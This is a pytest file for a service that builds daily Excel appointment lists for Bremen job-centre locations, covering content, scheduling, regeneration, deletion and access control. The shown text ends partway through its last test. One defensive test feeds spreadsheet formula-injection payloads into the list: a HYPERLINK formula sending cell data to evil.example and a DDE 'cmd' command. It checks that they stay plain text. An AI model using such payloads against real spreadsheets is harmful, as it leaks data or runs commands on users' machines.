"""The daily Excel list of a location (R22): its content opened with openpyxl, its creation at 06:00 exactly
once with two reporting instances (I7), its regeneration after a change, its deletion when the day is
over (R33), and who may download it (I5, I6)."""

from __future__ import annotations

import asyncio
import io
import re
import threading
import zipfile
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from aiohttp import ClientResponse
from aiohttp.test_utils import TestClient
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from services.reporting import service
from services.reporting.domain import DayListRow
from services.reporting.workbooks import DAY_LIST_COLUMNS, build_day_list
from shared.clock import BERLIN
from shared.events.appointment import AppointmentContactChangedV1, CancelledBy, Channel, Language
from shared.events.catalog import Mode
from shared.events.retention import AppointmentPersonalDataErasedV1
from shared.identity import Role
from tests.conftest import wait_for
from tests.reporting.conftest import (
    BEFORE,
    DAY,
    Appt,
    Reporting,
    berlin,
    envelope,
    identity_header,
    location_event,
)

MIGRATIONS = Path(service.__file__).parent / "migrations"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER_ROW = 4


def data_rows(ws: Worksheet) -> list[dict[str, object]]:
    titles = [c.title for c in DAY_LIST_COLUMNS]
    rows = []
    for values in ws.iter_rows(min_row=HEADER_ROW + 1, values_only=True):
        if any(v is not None for v in values):
            rows.append(dict(zip(titles, values, strict=False)))
    return rows


def demo_day() -> tuple[list[Appt], list[Appt]]:
    """Appointments of Bremen-Mitte on DAY (expected in the list) and others that must not be in it."""
    mitte = [
        Appt("mitte", "neuantrag", berlin(DAY, 9), service_point=1, last_name="Adler", first_name="Anna"),
        Appt("mitte", "neuantrag", berlin(DAY, 8), service_point=2, last_name="Berg", first_name="Bernd"),
        Appt(
            "mitte",
            "veraenderung",
            berlin(DAY, 8),
            service_point=1,
            mode=Mode.PHONE,
            phone="0421 555 0101",
            last_name="Cem",
            first_name="Ceyda",
            customer_number=None,
            household_number="BG-7788",
        ),
        Appt(
            "mitte",
            "leistungsbezug",
            berlin(DAY, 10, 30),
            last_name="Dorn",
            first_name="Dana",
            interpreter_language="Arabisch",
            language=Language.EN,
            channel=Channel.STAFF,
        ),
        Appt(
            "mitte", "energiesperre", berlin(DAY, 8, 30), service_point=2, last_name="Eck", first_name="Emil"
        ),
        Appt(
            "mitte", "leistungsbezug", berlin(DAY, 11), last_name="Fink", first_name="Frieda", phone="0170 1"
        ),
    ]
    others = [
        Appt("nord", "neuantrag", berlin(DAY, 9), last_name="Nordmann", first_name="Nils"),
        Appt("mitte", "neuantrag", berlin(DAY + timedelta(days=1), 9), last_name="Morgen", first_name="Max"),
    ]
    return mitte, others


async def publish_demo(reporting: Reporting) -> tuple[list[Appt], list[Appt]]:
    mitte, others = demo_day()
    setup_at = berlin(DAY, 0) - timedelta(days=5)
    await reporting.send(
        (location_event("mitte"), setup_at),
        (location_event("nord"), setup_at),
        *((a.booked(), a.booked_at) for a in mitte + others),
    )
    # One cancelled by the customer; one moved into DAY from the day after, one moved out of DAY.
    cancelled = mitte[5]
    moved_in = others[1].copy()
    moved_out = Appt("mitte", "neuantrag", berlin(DAY, 11), last_name="Weg", first_name="Willi")
    await reporting.send((moved_out.booked(), moved_out.booked_at))
    await reporting.send(
        (cancelled.cancel(CancelledBy.CUSTOMER), berlin(DAY, 0) - timedelta(days=1)),
        (moved_in.reschedule(berlin(DAY, 11, 30)), berlin(DAY, 0) - timedelta(days=1)),
        (moved_out.reschedule(berlin(DAY + timedelta(days=2), 9)), berlin(DAY, 0) - timedelta(days=1)),
    )
    others[1] = moved_in
    return [*mitte, moved_in], [others[0], moved_out]


async def download(
    reporting: Reporting, client: TestClient[Any, Any], location: str = "mitte"
) -> ClientResponse:
    return await client.get(
        f"/api/v1/staff/locations/{location}/day-list?date={DAY.isoformat()}",
        headers=identity_header(reporting.clock, Role.APPOINTMENT_MANAGER, location),
    )


@pytest.mark.req("R22")
async def test_day_list_holds_every_appointment_of_the_location_and_day_once_sorted_with_the_right_columns(
    reporting: Reporting,
) -> None:
    client = await reporting.start()
    expected, not_expected = await publish_demo(reporting)
    gone = not_expected[1]

    response = await download(reporting, client)
    assert response.status == 200
    assert response.content_type == XLSX
    disposition = response.headers["Content-Disposition"]
    assert disposition == 'attachment; filename="terminliste_mitte_2025-03-11.xlsx"'
    assert response.headers["Cache-Control"] == "no-store"
    wb = load_workbook(io.BytesIO(await response.read()))

    # One sheet per group of the location, named after it.
    assert wb.sheetnames == ["Eingangszone", "Leistungsteam 1"]
    seen: list[str] = []
    by_ref = {a.reference: a for a in expected}
    for ws in wb.worksheets:
        header = [c.value for c in ws[HEADER_ROW]]
        assert header == [
            "Uhrzeit",
            "Dauer (Min.)",
            "Serviceplatz",
            "Name",
            "Kunden-/BG-Nr.",
            "Anliegen",
            "Art",
            "Telefon (Telefontermin)",
            "Sprachmittlung / Hinweise",
            "Status",
            "Buchungsnummer",
        ]
        assert "Bremen-Mitte" in str(ws["A1"].value) and "11.03.2025" in str(ws["A1"].value)
        assert ws["A2"].value == f"Serviceplatzgruppe: {ws.title}"
        rows = data_rows(ws)
        cancelled = sum(1 for r in rows if r["Status"] == "storniert")
        moved = sum(1 for r in rows if str(r["Status"]).startswith("verlegt"))
        count = f"{len(rows)} Termin" if len(rows) == 1 else f"{len(rows)} Termine"
        also = f", {moved} verlegt" if moved else ""
        assert f" · {count} (davon {cancelled} storniert{also}) · " in str(ws["A3"].value)
        times = [(r["Uhrzeit"], r["Serviceplatz"]) for r in rows]
        assert times == sorted(times)  # sorted by time, then service point
        for row in rows:
            if row["Buchungsnummer"] == gone.reference:
                continue  # moved away from the day: below
            appt = by_ref[str(row["Buchungsnummer"])]
            seen.append(appt.reference)
            start = appt.start.astimezone(BERLIN)
            assert f"{row['Uhrzeit']:%H:%M}" == f"{start:%H:%M}"
            assert row["Dauer (Min.)"] == appt.minutes
            assert row["Serviceplatz"] == appt.service_point
            assert row["Name"] == f"{appt.last_name}, {appt.first_name}"
            assert ws.title == ("Eingangszone" if appt.group_id == "ez" else "Leistungsteam 1")
            # The phone number only for phone appointments (R4), nothing more than the task needs.
            assert row["Telefon (Telefontermin)"] == (appt.phone if appt.mode is Mode.PHONE else None)
            assert row["Art"] == ("telefonisch" if appt.mode is Mode.PHONE else "persönlich")
            # What the day page shows to prepare: an emergency, the interpreter, the customer's language.
            prepare = [
                *(["Notfall"] if appt.concern_id == "energiesperre" else []),
                *([f"Sprachmittlung: {appt.interpreter_language}"] if appt.interpreter_language else []),
                *(["Sprache: Englisch"] if appt.language is Language.EN else []),
            ]
            assert row["Sprachmittlung / Hinweise"] == ("\n".join(prepare) or None), appt.reference
            assert row["Status"] == ("storniert" if appt.status == "cancelled" else "gebucht")
        # Layout: frozen header, filter over the table, A4 landscape fitted to the width, header repeated.
        assert ws.freeze_panes == "A5"
        assert ws.auto_filter.ref == f"A{HEADER_ROW}:K{HEADER_ROW + max(len(rows), 1)}"
        assert ws.page_setup.orientation == "landscape"
        assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4  # "9", A4
        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
        assert ws.sheet_properties.pageSetUpPr.fitToPage is True
        assert ws.print_title_rows == "$1:$4"
        assert all(ws.column_dimensions[c].width >= 8 for c in "ABCDEFGHIJK")

    assert sorted(seen) == sorted(by_ref)  # every appointment of the day once
    assert not {a.reference for a in not_expected} & set(seen)  # none of another location or day
    # The one moved to another day stays at its old time, struck through, saying where it went.
    [moved_row] = [r for r in data_rows(wb["Eingangszone"]) if r["Buchungsnummer"] == gone.reference]
    assert (f"{moved_row['Uhrzeit']:%H:%M}", moved_row["Name"]) == ("11:00", "Weg, Willi")
    assert moved_row["Status"] == "verlegt auf 13.03. 09:00"
    numbers = {str(r["Buchungsnummer"]): r["Kunden-/BG-Nr."] for ws in wb.worksheets for r in data_rows(ws)}
    assert numbers[expected[0].reference] == "Kd-Nr. 123D456789"
    assert numbers[expected[2].reference] == "BG-Nr. BG-7788"
    concerns = {str(r["Buchungsnummer"]): r["Anliegen"] for ws in wb.worksheets for r in data_rows(ws)}
    assert concerns[expected[4].reference] == "Drohende / eingetretene Energiesperre"
    notes = {
        str(r["Buchungsnummer"]): r["Sprachmittlung / Hinweise"]
        for ws in wb.worksheets
        for r in data_rows(ws)
    }
    assert notes[expected[4].reference] == "Notfall"
    assert notes[expected[3].reference] == "Sprachmittlung: Arabisch\nSprache: Englisch"

    props = wb.properties
    assert props.title == "Terminliste Bremen-Mitte 11.03.2025"
    assert props.creator and "OTV" in props.creator
    assert props.description and "personenbezogene Daten" in props.description
    assert props.language == "de-DE"
    # The properties name no person.
    texts = " ".join(str(v) for v in (props.title, props.subject, props.keywords, props.description))
    assert not any(a.last_name in texts for a in expected)


@pytest.mark.req("R22")
async def test_two_reporting_instances_create_the_list_once_at_six_and_rebuild_it_after_a_change(
    reporting: Reporting,
) -> None:
    reporting.clock.set(berlin(DAY, 5, 58))
    first = await reporting.start()
    await reporting.start()
    expected, _ = await publish_demo(reporting)
    pool = reporting.pool

    await asyncio.sleep(0.5)  # many scheduler ticks of both instances before 06:00: nothing yet
    assert await pool.fetchval("SELECT count(*) FROM day_list_runs") == 0

    reporting.clock.set(
        berlin(
            DAY,
            6,
            0,
        )
        + timedelta(seconds=20)
    )

    async def both_generated() -> bool:
        return bool(await pool.fetchval("SELECT count(*) FROM day_lists WHERE generated_at IS NOT NULL") == 2)

    await wait_for(both_generated, what="the lists of 06:00")
    await asyncio.sleep(1.0)  # some 40 more ticks across the two instances
    runs = await pool.fetch(
        "SELECT location_id, day, generation, trigger FROM day_list_runs ORDER BY location_id"
    )
    assert [(r["location_id"], r["day"], r["generation"], r["trigger"]) for r in runs] == [
        ("mitte", DAY, 1, "schedule"),
        ("nord", DAY, 1, "schedule"),
    ]

    # A staff cancellation at 07:00 marks the list changed; one of the instances builds it again, once.
    reporting.clock.set(berlin(DAY, 7))
    late = expected[0]
    await reporting.send((late.cancel(CancelledBy.STAFF), berlin(DAY, 7)))

    async def rebuilt() -> bool:
        return bool(await pool.fetchval("SELECT generation FROM day_lists WHERE location_id = 'mitte'") == 2)

    await wait_for(rebuilt, what="the list rebuilt after the change")
    await asyncio.sleep(0.5)
    assert await pool.fetchval("SELECT count(*) FROM day_list_runs WHERE location_id = 'mitte'") == 2
    response = await download(reporting, first)
    wb = load_workbook(io.BytesIO(await response.read()))
    status = {str(r["Buchungsnummer"]): r["Status"] for ws in wb.worksheets for r in data_rows(ws)}
    assert status[late.reference] == "storniert"
    # The download was the stored file: no third build.
    assert await pool.fetchval("SELECT count(*) FROM day_list_runs WHERE location_id = 'mitte'") == 2


@pytest.mark.req("R22")
@pytest.mark.req("R25")
async def test_an_appointment_moved_to_another_day_or_location_stays_struck_through_in_the_old_list(
    reporting: Reporting,
) -> None:
    """The 06:00 printout of Mitte shows Müller at 10:00; at 08:10 the customer moves the appointment to
    next Tuesday, and Nord takes another one over. The rebuilt list still shows both at their old time,
    struck through like a cancellation, with where they went; the data go with the retention period."""
    reporting.clock.set(berlin(DAY, 6, 30))
    client = await reporting.start()
    setup_at = berlin(DAY, 0) - timedelta(days=5)
    stays = Appt("mitte", "neuantrag", berlin(DAY, 9), last_name="Bleibt", first_name="Berta")
    mueller = Appt("mitte", "neuantrag", berlin(DAY, 10), last_name="Müller", first_name="Max")
    taken = Appt("mitte", "leistungsbezug", berlin(DAY, 11), last_name="Nordweg", first_name="Nina")
    handed = Appt("mitte", "leistungsbezug", berlin(DAY, 11, 30), last_name="Rückruf", first_name="Rita")
    await reporting.send(
        (location_event("mitte"), setup_at),
        (location_event("nord"), setup_at),
        *((a.booked(), a.booked_at) for a in (stays, mueller, taken, handed)),
    )
    printed = load_workbook(io.BytesIO(await (await download(reporting, client)).read()))
    assert " · 2 Termine (davon 0 storniert) · " in str(printed["Eingangszone"]["A3"].value)

    reporting.clock.set(berlin(DAY, 8, 10))
    await reporting.send(
        (mueller.reschedule(berlin(DAY + timedelta(days=7), 10)), berlin(DAY, 8, 10)),
        (taken.transfer("nord", berlin(DAY, 9, 30)), berlin(DAY, 8, 10)),
        (handed.hand_over("nord"), berlin(DAY, 8, 10)),  # no free slot there: a callback
    )
    wb = load_workbook(io.BytesIO(await (await download(reporting, client)).read()))
    entrance = wb["Eingangszone"]
    assert " · 2 Termine (davon 0 storniert, 1 verlegt) · " in str(entrance["A3"].value)
    rows = {str(r["Name"]): r for ws in wb.worksheets for r in data_rows(ws)}
    assert set(rows) == {"Bleibt, Berta", "Müller, Max", "Nordweg, Nina", "Rückruf, Rita"}
    assert f"{rows['Müller, Max']['Uhrzeit']:%H:%M}" == "10:00"
    assert rows["Müller, Max"]["Status"] == "verlegt auf 18.03. 10:00"
    assert rows["Nordweg, Nina"]["Status"] == "übernommen von Standort Bremen-Nord (11.03. 09:30)"
    assert rows["Bleibt, Berta"]["Status"] == "gebucht"
    assert rows["Rückruf, Rita"]["Status"] == "übergeben an Standort Bremen-Nord (Rückruf)"
    struck = {
        str(row[3].value): bool(row[0].font.strike)
        for ws in wb.worksheets
        for row in ws.iter_rows(min_row=HEADER_ROW + 1)
        if row[3].value
    }
    assert struck == {
        "Bleibt, Berta": False,
        "Müller, Max": True,
        "Nordweg, Nina": True,
        "Rückruf, Rita": True,
    }
    # Nord's list has it as its own appointment, not struck through.
    nord = load_workbook(io.BytesIO(await (await download(reporting, client, "nord")).read()))
    assert [r["Status"] for ws in nord.worksheets for r in data_rows(ws)] == ["gebucht"]

    # Moved back to its day after all: once, as booked.
    await reporting.send((mueller.reschedule(berlin(DAY, 10, 30)), berlin(DAY, 8, 20)))
    wb = load_workbook(io.BytesIO(await (await download(reporting, client)).read()))
    statuses = [(str(r["Name"]), r["Status"]) for r in data_rows(wb["Eingangszone"])]
    assert statuses == [("Bleibt, Berta", "gebucht"), ("Müller, Max", "gebucht")]

    # After the retention period nothing of the moves is left.
    assert await reporting.pool.fetchval("SELECT count(*) FROM moved_away") == 3
    reporting.clock.set(berlin(DAY, 12) + timedelta(days=reporting.settings.retention_days + 9))
    counts = await service.run_retention(reporting.pool, reporting.settings, reporting.clock, force=True)
    assert counts is not None and counts["moved_away_rows_deleted"] == 3
    assert await reporting.pool.fetchval("SELECT count(*) FROM moved_away") == 0


@pytest.mark.req("R22")
async def test_a_booking_that_arrives_while_the_list_is_first_built_is_in_the_list_downloaded_next(
    reporting: Reporting, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The first download of the day's list (before the scheduler's at 06:00) reads the appointments, then
    renders the file; a booking applied in between must mark that file stale, not leave it served as
    current without the booking."""
    reporting.clock.set(berlin(DAY, 5))  # the scheduler builds nothing for DAY before 06:00
    client = await reporting.start()
    await reporting.send((location_event("mitte"), berlin(DAY, 0) - timedelta(days=5)))
    early = Appt("mitte", "neuantrag", berlin(DAY, 8), last_name="Früh")
    await reporting.send((early.booked(), early.booked_at))

    rendering, release = threading.Event(), threading.Event()
    render = build_day_list

    def paused_render(**kwargs: Any) -> bytes:
        rendering.set()
        release.wait(timeout=30)
        return render(**kwargs)

    monkeypatch.setattr(service, "build_day_list", paused_render)
    first_download = asyncio.create_task(download(reporting, client))
    await wait_for(rendering.is_set, what="the first build rendering the file")

    late = Appt("mitte", "leistungsbezug", berlin(DAY, 10), last_name="Spät")
    await reporting.publish(envelope(late.booked(), late.booked_at))

    async def applied_or_waiting() -> bool:
        # Either the booking is applied already, or its consumer waits for the build's lock on the list.
        waiting = await reporting.pool.fetchval(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
            " AND wait_event_type = 'Lock' AND query LIKE 'UPDATE day_lists SET stale%'"
        )
        return bool(waiting) or await reporting.applied() == len(reporting.published)

    await wait_for(applied_or_waiting, what="the booking applied or waiting for the list")
    release.set()
    response = await first_download
    assert response.status == 200
    first = {
        str(r["Buchungsnummer"])
        for ws in load_workbook(io.BytesIO(await response.read())).worksheets
        for r in data_rows(ws)
    }
    assert first == {early.reference}  # read before the booking arrived
    await reporting.settle()

    again = await download(reporting, client)
    names = {
        str(r["Name"])
        for ws in load_workbook(io.BytesIO(await again.read())).worksheets
        for r in data_rows(ws)
    }
    assert names == {"Früh, Erika", "Spät, Erika"}


@pytest.mark.req("R34")
@pytest.mark.req("R22")
async def test_an_erasure_on_request_rebuilds_a_stored_list_that_still_named_the_customer(
    reporting: Reporting,
) -> None:
    """Cancelled appointments stay in the day's list, struck through; once the customer's data are erased
    on request (Art. 17 GDPR), the stored file must not keep the name until the day is over."""
    reporting.clock.set(berlin(DAY, 7))
    client = await reporting.start()
    expected, _ = await publish_demo(reporting)
    gone = expected[0]
    await reporting.send((gone.cancel(CancelledBy.STAFF), berlin(DAY, 7)))
    names = [
        str(r["Name"])
        for ws in load_workbook(io.BytesIO(await (await download(reporting, client)).read())).worksheets
        for r in data_rows(ws)
    ]
    assert any(gone.last_name in n for n in names)  # the stored file, struck through

    await reporting.send(
        (
            AppointmentPersonalDataErasedV1(appointment_id=gone.id, erased_at=berlin(DAY, 7, 5)),
            berlin(DAY, 7, 5),
        )
    )
    response = await download(reporting, client)
    wb = load_workbook(io.BytesIO(await response.read()))
    rows = {str(r["Buchungsnummer"]): r for ws in wb.worksheets for r in data_rows(ws)}
    assert rows and all(gone.last_name not in str(v) for r in rows.values() for v in r.values())


@pytest.mark.req("R22")
@pytest.mark.req("R49")
async def test_a_corrected_phone_number_and_name_reach_the_stored_list_and_a_late_event_changes_nothing(
    reporting: Reporting,
) -> None:
    """Staff corrected a caller's number and the misspelt name on the appointment's day: the list that
    was built at 06:00 shows them; the same event again, or an older one late, leaves them."""
    reporting.clock.set(berlin(DAY, 7))
    client = await reporting.start()
    expected, (_, moved_out) = await publish_demo(reporting)
    caller = next(a for a in expected if a.mode is Mode.PHONE)
    assert caller.phone
    before = await download(reporting, client)  # the stored file, with the old number
    assert before.status == 200
    older = AppointmentContactChangedV1(appointment=caller.snapshot(), email_changed=False)
    caller.phone, caller.last_name, caller.revision = "0421 777 888", "Çem", caller.revision + 1
    event = AppointmentContactChangedV1(appointment=caller.snapshot(), email_changed=False)
    await reporting.send((event, berlin(DAY, 7, 5)))
    await reporting.send((event, berlin(DAY, 7, 5)), (older, berlin(DAY, 7, 6)))

    wb = load_workbook(io.BytesIO(await (await download(reporting, client)).read()))
    rows = {str(r["Buchungsnummer"]): r for ws in wb.worksheets for r in data_rows(ws)}
    assert rows[caller.reference]["Telefon (Telefontermin)"] == "0421 777 888"
    assert "Çem" in str(rows[caller.reference]["Name"])
    assert set(rows) == {a.reference for a in [*expected, moved_out]}  # the one moved away, struck through


@pytest.mark.req("R22")
@pytest.mark.req("R43")
async def test_a_customer_of_a_language_added_as_content_is_named_with_that_language_in_the_list(
    reporting: Reporting,
) -> None:
    """The customer booked on pages added in Turkish (R43): staff prepare for Turkish, not for the German
    of the customer's mails."""
    reporting.clock.set(berlin(DAY, 7))
    client = await reporting.start()
    await reporting.send((location_event("mitte"), berlin(DAY, 0) - timedelta(days=5)))
    turkish = Appt("mitte", "neuantrag", berlin(DAY, 9), language=Language.DE, language_tag="tr")
    await reporting.send((turkish.booked(), turkish.booked_at))
    wb = load_workbook(io.BytesIO(await (await download(reporting, client)).read()))
    rows = {str(r["Buchungsnummer"]): r for ws in wb.worksheets for r in data_rows(ws)}
    assert rows[turkish.reference]["Sprachmittlung / Hinweise"] == "Sprache: Türkisch"


@pytest.mark.req("R33")
async def test_a_list_of_a_later_day_is_sent_but_not_kept_and_todays_list_is_kept(
    reporting: Reporting,
) -> None:
    """A team lead looks at tomorrow's list ahead: the file is sent with every appointment, and nothing of
    it stays in reporting (nor is it built again on every change until that day); the list of the day
    itself is kept, for the desk to download again, until the day is over."""
    client = await reporting.start()  # the day before DAY, 12:00
    expected, (_, moved_out) = await publish_demo(reporting)
    pool = reporting.pool

    async def listed() -> dict[str, object]:
        response = await download(reporting, client)
        assert response.status == 200
        wb = load_workbook(io.BytesIO(await response.read()))
        return {str(r["Buchungsnummer"]): r["Status"] for ws in wb.worksheets for r in data_rows(ws)}

    assert set(await listed()) == {a.reference for a in [*expected, moved_out]}  # moved away: struck through
    kept = "SELECT count(*) FROM day_lists WHERE day = $1 AND content IS NOT NULL"
    assert await pool.fetchval(kept, DAY) == 0
    await reporting.send((expected[0].cancel(CancelledBy.STAFF), berlin(BEFORE, 12, 5)))
    await asyncio.sleep(0.5)  # many scheduler ticks: nothing to build again
    assert await pool.fetchval("SELECT count(*) FROM day_list_runs WHERE day = $1", DAY) == 0
    assert (await listed())[expected[0].reference] == "storniert"  # built anew, with the change
    assert await pool.fetchval(kept, DAY) == 0

    # On the day itself the list is kept: the 06:00 build, or the download's, whichever is first.
    reporting.clock.set(berlin(DAY, 5, 30))
    assert set(await listed()) == {a.reference for a in [*expected, moved_out]}
    assert await pool.fetchval(
        "SELECT content IS NOT NULL FROM day_lists WHERE location_id = 'mitte' AND day = $1", DAY
    )


@pytest.mark.req("R33")
async def test_the_migration_removes_kept_files_of_later_days_and_keeps_todays(reporting: Reporting) -> None:
    """Lists of later days kept by an earlier version go when the new version is installed; their row is
    "not generated" again, so that the day's own list is still made at 06:00."""
    pool = reporting.pool
    today = datetime.now(BERLIN).date()  # the migration reads the database's clock
    for day in (today, today + timedelta(days=5)):
        await pool.execute(
            "INSERT INTO day_lists (location_id, day, created_at, generated_at, generation, content,"
            " appointment_count, delete_after) VALUES ('mitte', $1, now(), now(), 1, $2, 3, now())",
            day,
            b"PK-file",
        )
    await pool.execute(MIGRATIONS.joinpath("004_no_stored_future_lists.sql").read_text(encoding="utf-8"))
    rows = {
        r["day"]: r for r in await pool.fetch("SELECT day, content, generated_at, generation FROM day_lists")
    }
    assert bytes(rows[today]["content"]) == b"PK-file" and rows[today]["generated_at"] is not None
    later = rows[today + timedelta(days=5)]
    assert later["content"] is None and later["generated_at"] is None and later["generation"] == 1


@pytest.mark.req("R33")
async def test_a_later_days_list_kept_by_the_previous_release_is_cleared_by_the_regular_clean_up(
    reporting: Reporting,
) -> None:
    """During the rolling update, after migration 004, the previous release's pods still keep the lists
    of later days they are asked for (and rebuild them on every change): the scheduler's clean-up clears
    such a file, marks its row "not generated", and the day's own list is still made at 06:00."""
    client = await reporting.start()  # the day before DAY, 12:00
    await publish_demo(reporting)
    pool = reporting.pool
    for day, stale in ((BEFORE, False), (DAY, True)):  # as an old pod stored them, one marked changed
        await pool.execute(
            "INSERT INTO day_lists (location_id, day, created_at, generated_at, generation, content, stale,"
            " appointment_count, delete_after) VALUES ('mitte', $1, $2, $2, 1, $3, $4, 7, $5)",
            day,
            reporting.clock.now(),
            b"PK-file",
            stale,
            berlin(day, 0) + timedelta(days=1),
        )

    async def cleared() -> bool:
        row = await pool.fetchrow(
            "SELECT content, generated_at, appointment_count FROM day_lists WHERE day = $1", DAY
        )
        return row is not None and tuple(row) == (None, None, None)

    await wait_for(cleared, what="the kept list of a later day cleared")
    assert await pool.fetchval("SELECT count(*) FROM day_list_runs WHERE day = $1", DAY) == 0  # not rebuilt
    kept = await pool.fetchval("SELECT content FROM day_lists WHERE day = $1", BEFORE)
    assert bytes(kept) == b"PK-file"  # today's list stays until its day is over

    reporting.clock.set(berlin(DAY, 6))

    async def made_at_six() -> bool:
        return bool(
            await pool.fetchval(
                "SELECT content IS NOT NULL AND generation = 2 FROM day_lists WHERE day = $1", DAY
            )
        )

    await wait_for(made_at_six, what="the day's own list made at 06:00")
    assert (await download(reporting, client)).status == 200


@pytest.mark.req("R33")
async def test_the_list_file_is_deleted_when_its_day_is_over_and_not_built_again(
    reporting: Reporting,
) -> None:
    reporting.clock.set(berlin(DAY, 6, 30))
    client = await reporting.start()
    await publish_demo(reporting)
    pool = reporting.pool
    assert (await download(reporting, client)).status == 200
    assert await pool.fetchval("SELECT content IS NOT NULL FROM day_lists WHERE location_id = 'mitte'")

    reporting.clock.set(berlin(DAY + timedelta(days=1), 0, 0) + timedelta(seconds=5))

    async def deleted() -> bool:
        return bool(
            await pool.fetchval(
                "SELECT deleted_at IS NOT NULL AND content IS NULL FROM day_lists WHERE location_id = 'mitte'"
            )
        )

    await wait_for(deleted, what="the files of the past day deleted")
    gone = await download(reporting, client)
    assert gone.status == 410
    assert (await gone.json())["error"]["code"] == "gone"
    report = await client.get(
        "/api/v1/admin/retention-report", headers=identity_header(reporting.clock, Role.ADMIN)
    )
    body = await report.json()
    # Whichever job came first (the scheduler's tick or the hourly retention run) reported the deletion.
    deleted = sum(
        r["counts"].get("day_list_files_deleted", 0) for r in body["runs"] if r["service"] == "reporting"
    )
    assert deleted == await pool.fetchval("SELECT count(*) FROM day_lists WHERE deleted_at IS NOT NULL") >= 1


async def test_the_list_file_may_be_kept_some_hours_after_its_day_when_configured(
    reporting: Reporting,
) -> None:
    reporting.clock.set(berlin(DAY, 6, 30))
    client = await reporting.start(day_list_keep_hours=6)
    await publish_demo(reporting)
    assert (await download(reporting, client)).status == 200
    reporting.clock.set(berlin(DAY + timedelta(days=1), 5))
    assert (await download(reporting, client)).status == 200
    reporting.clock.set(berlin(DAY + timedelta(days=1), 6, 1))
    assert (await download(reporting, client)).status == 410


@pytest.mark.req("R22")
async def test_only_staff_of_that_location_get_the_list(reporting: Reporting) -> None:
    client = await reporting.start()
    await publish_demo(reporting)
    clock = reporting.clock
    path = f"/api/v1/staff/locations/mitte/day-list?date={DAY.isoformat()}"

    async def status(headers: dict[str, str]) -> tuple[int, str]:
        response = await client.get(path, headers=headers)
        return response.status, (await response.json())["error"]["code"] if response.status != 200 else ""

    # A customer (no identity), a forged identity, an expired one: 401.
    assert await status({}) == (401, "unauthenticated")
    forged = identity_header(clock, Role.ADMIN, secret="someone-elses-secret-0123456789")
    assert await status(forged) == (401, "unauthenticated")
    tampered = identity_header(clock, Role.APPOINTMENT_MANAGER, "nord")
    mac = tampered["X-OTV-Identity"].rsplit(".", 1)[1]
    other = identity_header(clock, Role.APPOINTMENT_MANAGER, "mitte")["X-OTV-Identity"].rsplit(".", 1)[0]
    assert await status({"X-OTV-Identity": f"{other}.{mac}"}) == (401, "unauthenticated")
    stale = identity_header(
        clock, Role.APPOINTMENT_MANAGER, "mitte", issued_at=clock.now() - timedelta(minutes=5)
    )
    assert await status(stale) == (401, "unauthenticated")
    # Staff of another location, and roles without access to booking files: 403.
    assert await status(identity_header(clock, Role.APPOINTMENT_MANAGER, "nord")) == (403, "forbidden")
    assert await status(identity_header(clock, Role.STATISTICS, "*")) == (403, "forbidden")
    assert await status(identity_header(clock, Role.AUDIT, "*")) == (403, "forbidden")
    assert await status(identity_header(clock, Role.SERVICE_CENTRE, "*")) == (403, "forbidden")
    # The location's staff and administrators get it.
    assert await status(identity_header(clock, Role.APPOINTMENT_MANAGER, "mitte")) == (200, "")
    assert await status(identity_header(clock, Role.GROUP_LEADER, "mitte")) == (200, "")
    assert await status(identity_header(clock, Role.ADMIN)) == (200, "")
    # Authentication comes before anything else, even for a location that does not exist.
    response = await client.get("/api/v1/staff/locations/nowhere/day-list?date=bad")
    assert response.status == 401
    bad = await client.get(
        "/api/v1/staff/locations/mitte/day-list?date=11.03.2025",
        headers=identity_header(clock, Role.APPOINTMENT_MANAGER, "mitte"),
    )
    assert bad.status == 422
    assert (await bad.json())["error"]["details"][0]["field"] == "date"


def one_day_list(groups: list[tuple[str, str]], **changes: Any) -> Any:
    """The list of one appointment (at 09:00 in the entrance zone), with `changes` to the row."""
    start = berlin(DAY, 9)
    fields: dict[str, Any] = {
        "group_id": "ez",
        "group_name": "Eingangszone",
        "start": start,
        "end": start + timedelta(minutes=15),
        "service_point": 1,
        "last_name": "Adler",
        "first_name": "Anna",
        "customer_number": "123D456789",
        "household_number": None,
        "concern": "Veränderungsmitteilung",
        "mode": "in_person",
        "phone": None,
        "interpreter_language": None,
        "status": "booked",
        "outcome": None,
        "reference": "ABCD-EFGH",
    }
    content = build_day_list(
        location_id="mitte",
        location_name="Bremen-Mitte",
        day=DAY,
        groups=groups,
        rows=[DayListRow(**{**fields, **changes})],
        generated_at=berlin(DAY, 6),
    )
    return load_workbook(io.BytesIO(content))


@pytest.mark.req("R22")
def test_the_list_header_counts_one_appointment_in_the_singular() -> None:
    wb = one_day_list([("ez", "Eingangszone"), ("lt1", "Leistungsteam 1")])
    assert " · 1 Termin (davon 0 storniert) · " in str(wb["Eingangszone"]["A3"].value)
    assert " · 0 Termine (davon 0 storniert) · " in str(wb["Leistungsteam 1"]["A3"].value)


@pytest.mark.req("R22")
def test_a_name_that_looks_like_a_formula_stays_text_in_the_list() -> None:
    """Formula injection: what a customer types as a name is shown, never run, when staff open the list."""
    typed = {
        "last_name": '=HYPERLINK("https://evil.example/?d="&A1,"Klick")',
        "first_name": "@SUM(1+1)",
        "concern": "+Veränderungsmitteilung",
        "reference": "-ABCD-EFGH",
        "group_name": "=Eingangszone",
        "household_number": "=1+1",
        "interpreter_language": "=cmd|' /C calc'!A0",
    }
    ws = one_day_list([("ez", "=Eingangszone")], **typed).worksheets[0]
    cells = [c for r in ws.iter_rows() for c in r if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    shown = {str(c.value) for c in cells}
    assert f"{typed['last_name']}, {typed['first_name']}" in shown
    assert "Sprachmittlung: =cmd|' /C calc'!A0" in shown and typed["reference"] in shown


@pytest.mark.req("R22")
def test_long_texts_wrap_in_their_cells_so_the_printed_list_shows_them_whole() -> None:
    """A4 landscape, fitted to the width: a concern, outcome or the two numbers wider than their column
    must wrap onto more lines of a taller row, not be cut off by the next cell."""
    wb = one_day_list(
        [("ez", "Eingangszone")],
        concern="Mitteilung Arbeitsaufnahme / Aufnahme einer Ausbildung",
        customer_number="123D456789",
